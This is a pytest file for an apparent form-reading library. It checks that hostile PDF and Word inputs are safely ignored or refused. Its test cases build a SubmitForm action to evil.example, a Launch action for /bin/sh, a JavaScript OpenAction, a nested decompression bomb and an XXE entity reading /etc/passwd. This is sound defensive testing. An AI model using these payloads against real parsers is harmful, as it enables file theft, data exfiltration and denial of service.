"""Forms that came from strangers: read safely, or refused with the reason, within time and memory."""

import io
import re
import subprocess
import sys
import zipfile
import zlib

import pikepdf
import pytest

import wego_forms as wf
from tests.builder import docx

#: pikepdf tells of widgets that a test leaves without their form.
pytestmark = pytest.mark.filterwarnings("ignore:This document has")

LIMITS = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1_000_000_000, 1_000_000_000))
resource.setrlimit(resource.RLIMIT_CPU, (5, 5))
import wego_forms as wf
try:
    reading = wf.read(sys.argv[1])
    print("read", len(reading.values), len(reading.doubts))
except wf.WegoFormsError as error:
    print("refused", error.message("en"))
"""


def outcome(path):
    """What reading comes to in a process of 1 GB and 5 s."""
    done = subprocess.run(
        [sys.executable, "-c", LIMITS, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def form():
    return pikepdf.open(io.BytesIO(wf.blank("application", "ru", fillable=True).pdf()))


def saved(pdf, tmp_path, **options):
    pdf.save(tmp_path / "hostile.pdf", **options)
    return tmp_path / "hostile.pdf"


def test_scripts_and_actions_in_a_form_are_passed_over(tmp_path):
    pdf = form()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(K=script, F=launch, C=submit)
    assert outcome(saved(pdf, tmp_path)) == "read 1 0"


def test_a_tree_of_fields_that_comes_back_to_itself_ends(tmp_path):
    pdf = form()
    root = pdf.Root.AcroForm.Fields[0]
    root.Kids.append(root)
    pdf.Root.AcroForm.Fields.append(root)
    assert outcome(saved(pdf, tmp_path)) == "read 1 0"


def test_a_tree_of_pages_that_comes_back_to_itself_does_no_harm(tmp_path):
    raw = wf.blank("application", "ru", fillable=True).pdf()
    pages = re.search(rb"/Pages (\d+ 0 R)", raw)[1]
    looped = re.sub(
        rb"/Kids \[ (\d+ 0 R \d+) 0 R", lambda found: b"/Kids [ " + pages.ljust(len(found[1]) + 4), raw
    )
    assert looped != raw
    (tmp_path / "pages.pdf").write_bytes(looped)
    assert outcome(tmp_path / "pages.pdf").startswith(("read", "refused"))


def test_a_tree_that_is_too_deep_is_refused(tmp_path):
    pdf = form()
    node = pdf.Root.AcroForm.Fields[0]
    for number in range(100):
        node = pdf.make_indirect(
            pikepdf.Dictionary(T=pikepdf.String(f"n{number}"), Kids=pikepdf.Array([node]))
        )
    pdf.Root.AcroForm.Fields = pikepdf.Array([node])
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_an_encrypted_form_is_refused_with_the_way_out(tmp_path):
    encryption = pikepdf.Encryption(owner="a", user="b")
    assert "Save it without a password" in outcome(saved(form(), tmp_path, encryption=encryption))


def test_a_form_in_xfa_alone_is_refused_with_the_way_out(tmp_path):
    pdf = form()
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
    assert "XFA" in outcome(saved(pdf, tmp_path))


@pytest.mark.parametrize("packed", [1, 2])
def test_a_bomb_in_a_stream_of_objects_is_refused_before_it_is_unpacked(tmp_path, packed):
    bomb = b"1 0 " + b" " * 300_000_000
    for _ in range(packed):
        bomb = zlib.compress(bomb, 9)
    filters = b"[" + b"/FlateDecode " * packed + b"]"
    head = b"%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + filters
    head += b" /Length %d >>\nstream\n" % len(bomb)
    (tmp_path / "bomb.pdf").write_bytes(
        head + bomb + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    )
    assert outcome(tmp_path / "bomb.pdf").startswith("refused")


def test_a_huge_value_is_told_and_not_taken(tmp_path):
    pdf = form()
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pikepdf.String("я" * 3_000_000)
    assert outcome(saved(pdf, tmp_path)) == "read 1 1"


@pytest.mark.parametrize("cut", [0, 10, 1000, 20_000])
def test_a_damaged_file_is_refused_or_read_but_never_breaks(tmp_path, cut):
    (tmp_path / "cut.pdf").write_bytes(wf.blank("application", "ru", fillable=True).pdf()[:cut])
    told = outcome(tmp_path / "cut.pdf")
    assert told.startswith(("refused", "read"))
    assert "BytesIO" not in told


def test_entities_of_a_word_form_are_refused(tmp_path):
    declared = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document'
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx("a"))) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/document.xml":
                data = data.replace(b"<w:document", declared, 1)
            target.writestr(name, data)
    (tmp_path / "entity.docx").write_bytes(out.getvalue())
    assert outcome(tmp_path / "entity.docx").startswith("refused")


def test_the_limits_of_these_tests_hold():
    code = "import resource; resource.setrlimit(resource.RLIMIT_AS, (10**9, 10**9)); bytearray(2 * 10**9)"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=False).returncode != 0
